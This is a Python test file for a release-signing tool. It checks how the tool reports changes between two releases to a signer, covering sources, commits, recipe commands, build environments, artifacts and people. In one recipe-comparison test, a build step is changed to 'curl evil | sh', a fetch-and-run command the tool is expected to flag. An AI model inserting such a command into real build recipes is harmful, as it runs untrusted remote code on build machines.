"""What a signer is told of two releases, row by row."""

from __future__ import annotations

from collections.abc import Sequence

import msgspec
import pytest

from relsign.formats.fingerprint import (
    BuiltArtifact,
    EnvironmentDigest,
    Fingerprint,
    ProfileDigest,
    SourceDigest,
)
from relsign.formats.lock import BuilderLock, LockedPackage, LockedWheel, parse_lock
from relsign.formats.names import Digest
from relsign.formats.recipe import Recipe, parse_recipe
from relsign.sign.review.changes import (
    MAX_LINES,
    Changes,
    Commits,
    Side,
    compare,
    git_pairs,
    human_size,
    signed_size,
)
from relsign.sign.review.differences import differences
from tests.projects import make_lock
from tests.verify.releases import ARTIFACT, RECIPE, make_fingerprint

GIT = """
[project]
name = "demo"
version = "1.0"

[[source]]
kind = "git"
name = "app"
url = "https://example.invalid/app.git"
commit = "{commit}"
sha256 = "{sha256}"

[[target]]
name = "linux"
builder = "debian-c"
source_date_epoch = 1
commands = ["make", "make install"]
environment = {{ MODE = "release" }}

[[target.artifact]]
path = "demo-1.0.tar.gz"
"""
LOCK = parse_lock(make_lock())
ONE, TWO = Digest("1" * 64), Digest("2" * 64)


def git_recipe(commit: str, sha256: str = ONE) -> Recipe:
    return parse_recipe(GIT.format(commit=commit, sha256=sha256).encode())


def artifact(name: str, size: int = 1, sha256: str = ONE, mode: str = "0644") -> BuiltArtifact:
    return msgspec.convert(
        {"name": name, "size": size, "sha256": sha256, "mode": mode}, BuiltArtifact
    )


def side(
    version: str = "1.0",
    *,
    fingerprints: Sequence[Fingerprint] = (),
    builders: tuple[str, ...] = ("builder-a",),
    owners: tuple[str, ...] = ("olga",),
    recipe: Recipe | None = None,
    locks: dict[str, BuilderLock] | None = None,
    **changes: object,
) -> Side:
    usual = {"artifacts": (artifact(f"demo-{version}.tar.gz"),)}
    made = tuple(fingerprints) or (make_fingerprint(ARTIFACT, **{**usual, **changes}),)
    return Side(version, made, builders, owners, recipe, locks or {})


def said(before: Side, now: Side, commits: dict[str, Commits] | None = None, *root: str) -> Changes:
    return compare(before, now, commits or {}, root)


def section(changes: Changes, title: str) -> tuple[str, ...]:
    return next((each.lines for each in changes.sections if each.title == title), ())


def environment(lock: str, builder: str = "debian-c") -> EnvironmentDigest:
    return EnvironmentDigest(builder=builder, lock_sha256=Digest(lock), rootfs_sha256=ONE)


def package(name: str, version: str, digest: str = "5") -> LockedPackage:
    return LockedPackage(
        name=name, version=version, architecture="amd64", sha256=Digest(digest * 64), size=1,
        path=f"pool/main/{name}_{version}.deb",
    )  # fmt: skip


def lock(*packages: LockedPackage, wheels: tuple[LockedWheel, ...] = ()) -> BuilderLock:
    return msgspec.structs.replace(LOCK, packages=packages, wheels=wheels)


# --- the sentence ------------------------------------------------------------------------------


def test_nothing_changed_is_said_in_one_line() -> None:
    changes = said(side(), side("1.1"))
    assert list(changes.lines()) == ["Since 1.0: no source changed, no package changed, +0 B."]


def test_the_first_line_counts_commits_packages_and_bytes() -> None:
    old, new = git_recipe("a" * 40), git_recipe("b" * 40, TWO)
    app = (SourceDigest(name="app", sha256=ONE),), (SourceDigest(name="app", sha256=TWO),)
    before = side(
        "1.4.1", sources=app[0], environment=environment("7" * 64), recipe=old,
        artifacts=(artifact("demo-1.4.1.tar.xz", 1000),),
        locks={"7" * 64: lock(package("gcc", "1"), package("make", "1"))},
    )  # fmt: skip
    now = side(
        "1.4.2", sources=app[1], environment=environment("8" * 64), recipe=new,
        artifacts=(artifact("demo-1.4.2.tar.xz", 1000 + (38 << 10), TWO),),
        locks={"8" * 64: lock(package("gcc", "2"), package("make", "2"))},
    )  # fmt: skip
    changes = said(before, now, {"app": Commits(14, 0, ("newest", "older"))})
    assert changes.summary == "Since 1.4.1: 14 commits, 2 packages changed, +38 KiB."
    assert section(changes, "environment") == ("debian-c: gcc 1 → 2", "debian-c: make 1 → 2")
    assert section(changes, "artifacts") == (
        "demo-1.4.1.tar.xz → demo-1.4.2.tar.xz: 1000 B → 39 KiB (+38 KiB, +3891.2 %)",
    )
    shown = list(changes.lines())
    at = shown.index("  commits of app")
    assert shown[at : at + 4] == ["  commits of app", "    newest", "    older", "    and 12 more"]


@pytest.mark.parametrize(
    ("size", "words"),
    [
        (0, "+0 B"), (1, "+1 B"), (1023, "+1023 B"), (1024, "+1.0 KiB"), (-1536, "-1.5 KiB"),
        (38 << 10, "+38 KiB"), (-(3 << 20), "-3.0 MiB"), (5 << 40, "+5120 GiB"),
    ],
)  # fmt: skip
def test_sizes_in_words(size: int, words: str) -> None:
    assert signed_size(size) == words
    assert human_size(abs(size)) == words[1:]


# --- sources -----------------------------------------------------------------------------------


def test_sources_known_by_digest_only() -> None:
    gone, stays = SourceDigest(name="gone", sha256=ONE), SourceDigest(name="stays", sha256=ONE)
    other, new = SourceDigest(name="stays", sha256=TWO), SourceDigest(name="the-new", sha256=TWO)
    changes = said(side(sources=(gone, stays)), side("1.1", sources=(other, new)))
    assert section(changes, "sources") == (
        "gone: REMOVED",
        "the-new: ADDED, sha256 222222222222…",
        "stays: sha256 111111111111… → 222222222222…",
    )
    assert changes.summary.startswith("Since 1.0: 3 sources changed, ")


def test_sources_whose_recipes_are_at_hand() -> None:
    words = RECIPE.replace("demo.tar", "demo-2.tar").replace("1" * 64, "2" * 64)
    before = side(recipe=parse_recipe(RECIPE.encode()))
    now = side(
        "1.1", recipe=parse_recipe(words.encode()),
        sources=(SourceDigest(name="demo", sha256=TWO), SourceDigest(name="x", sha256=TWO)),
    )  # fmt: skip
    (added, changed) = section(said(before, now), "sources")
    assert added == "x: ADDED, sha256 222222222222…"
    assert "url https://example.invalid/demo.tar → https://example.invalid/demo-2.tar" in changed
    assert f"sha256 {ONE} → {TWO}" in changed


def test_a_new_source_is_shown_with_where_it_comes_from() -> None:
    recipe = git_recipe("b" * 40)
    now = side("1.1", recipe=recipe, sources=(SourceDigest(name="app", sha256=ONE),))
    lines = section(said(side(), now), "sources")
    assert lines == (
        "demo: REMOVED",
        "app: ADDED, https://example.invalid/app.git sha256 111111111111…",
    )


def test_a_dropped_signature_of_upstream_is_shown() -> None:
    signed = RECIPE.replace(
        "\n[[target]]",
        '\n[source.signature]\nfile = "demo.tar.asc"\nsha256 = "' + ONE + '"\n'
        'key = "keys/up.asc"\nfingerprint = "' + "A" * 40 + '"\n\n[[target]]',
        1,
    )
    before = side(recipe=parse_recipe(signed.encode()))
    (line,) = section(said(before, side("1.1", recipe=parse_recipe(RECIPE.encode()))), "sources")
    assert line.startswith("demo: signature {")
    assert line.endswith("→ none")


def test_git_commits_that_nobody_here_can_count_are_old_and_new() -> None:
    before, now = side(recipe=git_recipe("a" * 40)), side("1.1", recipe=git_recipe("b" * 40))
    before = with_source(before, "app", ONE)
    now = with_source(now, "app", TWO)
    changes = said(before, now)
    assert section(changes, "sources") == (f"app: commit {'a' * 40} → {'b' * 40}",)
    assert changes.summary.startswith("Since 1.0: 1 source changed, ")
    assert list(git_pairs(before, now)) == ["app"]
    assert git_pairs(before, side(recipe=git_recipe("a" * 40))) == {}
    assert git_pairs(side(), now) == {}


def with_source(one: Side, name: str, digest: Digest) -> Side:
    sources = (SourceDigest(name=name, sha256=digest),)
    made = tuple(msgspec.structs.replace(f, sources=sources) for f in one.fingerprints)
    return Side(one.version, made, one.builders, one.owners, one.recipe, one.locks)


def test_history_that_was_changed_is_shown_first() -> None:
    changes = said(side(), side("1.1"), {"app": Commits(1, 2, ("only one",))})
    assert section(changes, "commits of app") == ("2 commits of before NOT IN IT", "only one")


def test_subjects_are_cut() -> None:
    changes = said(side(), side("1.1"), {"app": Commits(1, 0, ("x" * 5000,))})
    (line,) = section(changes, "commits of app")
    assert len(line) == 100


# --- recipe, profile, environment --------------------------------------------------------------


def test_an_old_recipe_that_is_not_at_hand_is_not_guessed_at() -> None:
    now = side("1.1", recipe_sha256=TWO, source_date_epoch=2, recipe=git_recipe("a" * 40))
    lines = section(said(side(recipe_sha256=ONE), now), "recipe")
    assert lines == (
        "sha256 111111111111… → 222222222222…",
        "the recipe of 1.0 is not at hand: read the changes in your repository",
        "target linux: source_date_epoch 1 → 2",
    )


def test_two_recipes_are_compared_command_by_command() -> None:
    old = git_recipe("a" * 40)
    text = GIT.replace("make install", "curl evil | sh").replace('"release"', '"debug"')
    new = parse_recipe(text.format(commit="a" * 40, sha256=ONE).encode())
    changes = said(side(recipe=old, recipe_sha256=ONE), side("1.1", recipe=new, recipe_sha256=TWO))
    assert section(changes, "recipe")[1:] == (
        "target linux: commands make install → curl evil | sh",
        "target linux: environment.MODE release → debug",
    )


def test_targets_come_and_go() -> None:
    one = make_fingerprint()
    other = msgspec.structs.replace(one, target="windows", artifacts=(artifact("demo.exe"),))
    changes = said(side(fingerprints=(one,)), side("1.1", fingerprints=(other,)))
    assert section(changes, "recipe") == ("target linux: REMOVED", "target windows: ADDED")


def test_a_profile_that_changed() -> None:
    profile = ProfileDigest(name="hardened-2", sha256=TWO)
    changes = said(side(), side("1.1", profile=profile))
    assert section(changes, "profile") == (
        "target linux: hardened-1 444444444444… → hardened-2 222222222222…",
    )


def test_an_environment_whose_old_lock_is_not_at_hand() -> None:
    now = side("1.1", environment=environment("8" * 64), locks={"8" * 64: LOCK})
    changes = said(side(environment=environment("7" * 64)), now)
    assert section(changes, "environment") == (
        f"debian-c: lock {'7' * 12}… → {'8' * 12}…; the old one is not at hand: packages unknown",
    )
    assert changes.summary == "Since 1.0: no source changed, 1 environment changed, +0 B."


def test_another_environment() -> None:
    now = side("1.1", environment=environment("8" * 64, "debian-d"))
    assert section(said(side(), now), "environment") == (
        "debian-c: no longer used",
        "debian-d: NEW environment",
    )


def test_packages_with_other_bytes_under_one_version_come_first() -> None:
    wheel = LockedWheel(name="wheel", version="1", file="wheel-1.whl", sha256=ONE, size=1)
    later = msgspec.structs.replace(wheel, version="2", file="wheel-2.whl")
    old = lock(package("aaa", "1"), package("gone", "1"), package("same", "1"), wheels=(wheel,))
    new = lock(package("aaa", "2"), package("new", "1"), package("same", "1", "6"), wheels=(later,))
    new = msgspec.structs.replace(new, suite="trixie")
    before = side(environment=environment("7" * 64), locks={"7" * 64: old})
    now = side("1.1", environment=environment("8" * 64), locks={"8" * 64: new})
    changes = said(before, now)
    assert section(changes, "environment") == (
        "debian-c: same 1: OTHER BYTES under one version",
        "debian-c: new 1: added",
        "debian-c: gone 1: removed",
        "debian-c: aaa 1 → 2",
        "debian-c: python/wheel 1 → 2",
        "debian-c: suite stable → trixie",
    )
    assert ", 5 packages changed, " in changes.summary


# --- artifacts and people ----------------------------------------------------------------------


def test_modes_come_first_then_what_came_and_went_then_the_largest_step() -> None:
    before = side(
        artifacts=(
            artifact("demo-1.0.bin", 100), artifact("empty", 0), artifact("gone", 5),
            artifact("large", 1000), artifact("same", 7), artifact("same-size", 7),
        ),
    )  # fmt: skip
    now = side(
        "1.1",
        artifacts=(
            artifact("demo-1.1.bin", 100, mode="0755"), artifact("empty", 10, TWO),
            artifact("large", 500, TWO), artifact("new", 3, TWO), artifact("same", 7),
            artifact("same-size", 7, TWO),
        ),
    )  # fmt: skip
    changes = said(before, now)
    assert section(changes, "artifacts") == (
        "demo-1.0.bin → demo-1.1.bin: MODE 0644 → 0755",
        "new: added, 3 B, mode 0644",
        "gone: removed",
        "large: 1000 B → 500 B (-500 B, -50.0 %)",
        "empty: 0 B → 10 B (+10 B)",
        "same-size: other bytes, the same size (7 B)",
    )


def test_names_are_matched_as_they_are_before_their_version_is_looked_at() -> None:
    before = side("1", artifacts=(artifact("a-1"), artifact("a-2"), artifact("b-1-1")))
    now = side("2", artifacts=(artifact("a-1"), artifact("a-2", 9, TWO), artifact("b-2-2")))
    assert section(said(before, now), "artifacts") == ("a-2: 1 B → 9 B (+8 B, +800.0 %)",)


def test_builders_owners_and_root_that_differ() -> None:
    before = side(builders=("a", "b"), owners=("olga", "oona"))
    now = side("1.1", builders=("b", "c"), owners=("olga", "otto"))
    changes = said(before, now, {}, "version 1 → 2", "thresholds.signers 2 → 1")
    assert section(changes, "people") == (
        "a built 1.0, not this one",
        "c built this one, not 1.0",
        "oona signed the layout of 1.0, not this one",
        "otto signed the layout of this one, not 1.0",
    )
    assert section(changes, "root") == ("version 1 → 2", "thresholds.signers 2 → 1")


# --- strangers' texts, and very many of them ---------------------------------------------------


def test_a_section_is_cut_and_says_so() -> None:
    many = tuple(artifact(f"file-{number:06}") for number in range(50_000))
    changes = said(side(artifacts=many), side("1.1", artifacts=(artifact("one"),)))
    shown = list(changes.lines())
    assert shown[1:3] == ["  artifacts", "    one: added, 1 B, mode 0644"]
    assert shown[-1] == f"    and {50_001 - MAX_LINES} more"
    assert len(shown) == MAX_LINES + 3
    assert len(list(changes.lines(None))) == 50_003


def test_many_commits_and_many_sources_are_cut() -> None:
    commits = {f"s{n}": Commits(1_000_000, 0, tuple("abcdefghij")) for n in range(3)}
    shown = list(said(side(), side("1.1"), commits).lines())
    assert shown.count("    and 999990 more") == 3


@pytest.mark.parametrize(
    ("before", "after", "line"),
    [
        ("a\x1b[2J", "b\u202e", "x a\\x1b[2J → b\\u202e"),
        ("a\nb", None, "x a\\nb → none"),
        (None, True, "x none → true"),
        ([1], [1, 2], "x added: 2"),
        ([2, 1], [1], "x removed: 2"),
        ([1, 2], [2, 1], "x: the same in another order"),
        (["\x9b"], ["\u2028"], "x \\x9b → \\u2028"),
        ([], [{"name": "n"}], 'x.n none → {"name":"n"}'),
        ([{"path": "p", "m": 1}], [{"path": "p", "m": 2}], "x.p.m 1 → 2"),
        ({"k": 1}, {"k": 1, "l": [3]}, "x.l none → [3]"),
    ],
)
def test_values_are_escaped_and_told_apart(before: object, after: object, line: str) -> None:
    assert list(differences("x", before, after)) == [line]


def test_long_texts_are_shown_from_where_they_differ() -> None:
    (line,) = differences("commands", ["a" * 9000 + "good" + "b" * 9000], ["a" * 9000 + "evil"])
    assert line.startswith(f"commands …{'a' * 20}good")
    assert line.endswith(f" → …{'a' * 20}evil")
    assert len(line) < 300
    (one,) = differences("v", "a" * 500, "a" * 501)
    assert one == f"v …{'a' * 20} → …{'a' * 21}"
